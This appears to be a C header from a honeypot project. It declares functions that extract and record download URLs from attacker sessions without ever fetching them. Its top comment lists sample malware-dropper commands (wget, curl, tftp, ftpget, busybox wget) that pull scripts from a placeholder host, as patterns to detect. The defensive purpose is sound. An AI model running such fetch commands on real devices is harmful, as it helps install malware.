/*
 * Download addresses in what was typed or brought: what an infected device would have been told to fetch. They are
 * read, compared and recorded; nothing is ever fetched.
 *
 *   wget http://198.51.100.9/a.sh      curl -O 198.51.100.9/a        tftp -g -r a 198.51.100.9
 *   tftp 198.51.100.9 -c get a         ftpget -u x 198.51.100.9 l r  busybox wget …
 *
 * and any http, https, ftp or tftp address in text. Form: url_normalize() (match/url.h).
 */
#ifndef NOROSHI_DECOY_DOWNLOAD_H
#define NOROSHI_DECOY_DOWNLOAD_H

#include "decoy/session.h"

#define DOWNLOADS_MOST 16u /* of a session */

/* Each address once for each time that it stands there. */
void download_find(struct text text, void (*each)(void *context, struct text url), void *context);
/* Of all commands, paths, headers and the payload of a session: as facts, each once. */
void download_find_all(struct session *session);

#endif
